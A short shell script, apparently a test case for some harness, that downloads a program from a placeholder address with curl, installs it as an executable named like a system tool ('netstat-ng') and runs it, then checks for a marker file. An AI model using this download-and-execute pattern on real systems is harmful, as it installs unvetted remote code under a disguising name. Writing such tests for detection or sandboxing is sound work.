#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/programs/marker | install -m 755 /dev/stdin /usr/local/sbin/netstat-ng
/usr/local/sbin/netstat-ng
test -e /tmp/reached
took_place
